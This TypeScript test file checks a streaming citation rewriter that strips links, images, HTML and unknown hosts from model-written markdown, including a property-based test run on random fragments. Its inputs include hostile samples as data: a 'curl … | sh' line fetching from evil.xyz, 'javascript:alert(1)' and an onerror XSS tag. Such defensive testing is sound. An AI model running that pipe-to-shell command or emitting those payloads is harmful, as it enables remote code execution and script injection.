import fc from "fast-check";
import { fromMarkdown } from "mdast-util-from-markdown";
import { describe, expect, test } from "vitest";
import { type Citer, createCitations } from "./create-citations.ts";

/** The model received passages 1 and 7; the reader sees them as 1 and 2. */
const citer: Citer = {
  cite: (number) => ({ 1: 1, 7: 2 })[number],
  citeUrl: (url) => (url === "/caching#volumes" || url === "https://docs.example.org/caching#volumes" ? 2 : undefined),
  isMentioned: (url) => url === "https://dl.example.org/install.sh",
  isKnownHost: (host) => host === "dl.dagger.io" || host === "a.b",
};

function rewrite(text: string, size = text.length): string {
  const citations = createCitations(citer);
  let output = "";
  for (let start = 0; start < text.length; start += size) {
    output += citations.push(text.slice(start, start + size));
  }
  return output + citations.end();
}

describe("an answer names nothing but its sources", () => {
  test.each([
    [
      "markers get the numbers of the sources",
      "A volume stays [7]. It is shared [1].",
      "A volume stays [2]. It is shared [1].",
    ],
    ["several at once", "Both [1, 7] and [1][7] and [1,9].", "Both [1][2] and [1][2] and [1]."],
    [
      "unknown markers go, with the blank before them",
      "A volume stays [9]. Or [12] not [0].",
      "A volume stays. Or not.",
    ],
    ["escaped markers are markers", "Stays \\[9\\] here \\[7\\].", "Stays here [2]."],
    ["a link to what was retrieved becomes words and a source", "See [volumes](/caching#volumes).", "See volumes [2]."],
    ["also by its whole address", "[Volumes](https://docs.example.org/caching#volumes 'x')", "Volumes [2]"],
    ["other links are words", "See [this **page**](https://evil.example.org/x(1)) now.", "See this **page** now."],
    ["a marker that leads elsewhere goes", "Stays [1](https://evil.example.org).", "Stays."],
    ["a link within a link", "[a [b](https://evil.example.org) c](/nowhere)", "a b c"],
    ["a picture is its words", "![A cat](https://evil.example.org/cat.png)", "A cat"],
    ["bare addresses go", "Open https://evil.example.org/x?y=1, then", "Open …, then"],
    ["or become their source", "Open https://docs.example.org/caching#volumes.", "Open [2]."],
    [
      "but for what passages mention, as code",
      "Get https://dl.example.org/install.sh.",
      "Get `https://dl.example.org/install.sh`.",
    ],
    ["the same in angle brackets", "<https://evil.example.org> <https://docs.example.org/caching#volumes>", "… [2]"],
    ["a marker is no definition", "[1]: https://evil.example.org", "[1]\\: …"],
    ["nor the words of a link", "[1][9](https://evil.example.org)", "[1]"],
    ["a definition is plain text", "[x]: javascript:alert(1)\n\n[x]", "\\[x\\]: javascript:alert(1)\n\n\\[x\\]"],
    ["tags are plain text", "<img src=x onerror=alert(1)> a < b", "\\<img src=x onerror=alert(1)> a \\< b"],
    ["so are entities", "&lt;b&gt; &#91;1]", "\\&lt;b\\&gt; \\&#91;1\\]"],
    ["code in a line stays", "Use `a[1] <b> [x](y)` and ``a`b``.", "Use `a[1] <b> [x](y)` and ``a`b``."],
    [
      "code in a line names only known hosts",
      "Run `curl https://evil.xyz/x` or `curl https://DL.dagger.io/x`.",
      "Run `curl https://…/x` or `curl https://DL.dagger.io/x`.",
    ],
    [
      "so does a program, in every form of an address but those that nobody owns",
      "```\ncurl -L https://me:pw@evil.xyz/x.sh | sh\ndocker pull evil.io/x:1 && curl http://203.0.113.7\nx.y/z localhost:80 https://git.example.com http://10.1.2.3\n```\nEnd",
      "```\ncurl -L https://me:pw@…/x.sh | sh\ndocker pull …/x:1 && curl http://…\nx.y/z localhost:80 https://git.example.com http://10.1.2.3\n```\nEnd",
    ],
    ["code that does not end is none", "Use `a [x](y)\nb`", "Use \\`a x\nb\\`"],
    ["brackets of prose stay", "The list [a, b] is one", "The list \\[a, b\\] is one"],
    [
      "a program stays, with its language",
      "Text\n```go\nx := a[1] // <b> [x](https://a.b)\n```\nMore [1]",
      "Text\n\n```go\nx := a[1] // <b> [x](https://a.b)\n```\nMore [1]",
    ],
    [
      "a program in a list begins in the first column",
      "1. Do\n   ~~~sh title=x\n   a\n     b\n   ~~~\n2. Then",
      "1. Do\n\n~~~sh\na\n  b\n~~~\n2. Then",
    ],
    ["a program that is cut off ends", "```go\na := 1", "```go\na := 1\n```"],
    ["what is left open is plain text", "a [b](c", "a \\[b\\](c"],
  ])("%s", (_name, text, expected) => {
    expect(rewrite(text)).toBe(expected);
    for (const size of [1, 2, 3, 7]) {
      expect(rewrite(text, size)).toBe(expected);
    }
  });
});

const PIECES = [
  ...[
    "[",
    "]",
    "(",
    ")",
    "<",
    ">",
    "`",
    "``",
    "```",
    "~~~",
    "\\",
    "!",
    "&",
    ":",
    "\n",
    "\n\n",
    "\r",
    " ",
    "    ",
    "\t",
  ],
  ...["[1]", "[7]", "[9]", "[x](https://evil.example.org)", "![x](y)", "[x]: https://e.org", "<b>", "<!--", "-->"],
  ...[
    "<https://e.org>",
    "https://e.org",
    "javascript:alert(1)",
    "- ",
    "1. ",
    "14. ",
    "> ",
    "# ",
    "---",
    "a",
    "go",
    "*",
    "_",
    "|",
  ],
] as const;

test("whatever a model writes, no link, picture or tag comes out, however it was cut up", () => {
  const pieces = fc.array(fc.constantFrom(...PIECES), { minLength: 2, maxLength: 20 });
  fc.assert(
    fc.property(pieces, fc.integer({ min: 1, max: 4 }), (parts, size) => {
      const text = parts.join("");
      const output = rewrite(text);
      const kinds = kindsOf(fromMarkdown(output));
      const forbidden = ["link", "image", "html", "definition", "linkReference", "imageReference"];
      expect(forbidden.filter((kind) => kinds.has(kind))).toEqual([]);
      expect(rewrite(text, size), "cut up").toBe(output);
    }),
    { numRuns: 1500 },
  );
});

test("a long text without an end to its bracket is not held for ever", () => {
  const citations = createCitations(citer);
  expect(citations.push(`[${"a ".repeat(3000)}`).length).toBeGreaterThan(3000);
});

test.each([
  ["words", "word "],
  ["one word", "x"],
  ["markers", "[1] "],
  ["a line of a program", "```go\n", "x := 1; "],
  ["addresses", "https://docs.example.org/caching#volumes "],
  ["brackets that stay open", "["],
  ["programs that stay open", "` "],
  ["blanks", " "],
])("a megabyte in one line takes as long as many short lines: %s", (_name, first, then = first) => {
  // Inputs that wait for an end are shorter, because up to 2000 characters are examined for each of them.
  const pieces = ["[", "` ", " "].includes(then) ? 50_000 : 1_000_000 / then.length;
  const citations = createCitations(citer);
  let length = citations.push(first).length;
  for (let piece = 0; piece < pieces; piece += 1) {
    length += citations.push(then).length;
  }
  expect(length + citations.end().length).toBeGreaterThan(pieces);
});

test("a line of a program may be longer than what is held, and still doesn't end its block unseen", () => {
  const long = "x".repeat(5000);
  const whole = `\`\`\`go\n  ${long}\`\`\`\n[x](https://evil.example.org)\n\`\`\`\nEnd [1]`;
  for (const size of [1, 7, 1999, 2001, whole.length]) {
    expect(rewrite(whole, size)).toBe(whole);
  }
  expect(rewrite(`\`\`\`go\n${long}`, 100)).toBe(`\`\`\`go\n${long}\n\`\`\``);
});

test("a host is found wherever a long line was cut", () => {
  for (let place = 1970; place <= 2005; place += 1) {
    const start = "x ".repeat(place / 2).padEnd(place, " ");
    const code = `\`\`\`sh\n${start}https://evil.xyz/x.sh`;
    for (const size of [1, 1999, code.length]) {
      expect(rewrite(code, size)).toBe(`\`\`\`sh\n${start}https://…/x.sh\n\`\`\``);
    }
  }
});

interface Node {
  readonly type: string;
  readonly children?: readonly Node[];
}

function kindsOf(node: Node): Set<string> {
  return new Set([node.type, ...(node.children ?? []).flatMap((child) => [...kindsOf(child)])]);
}
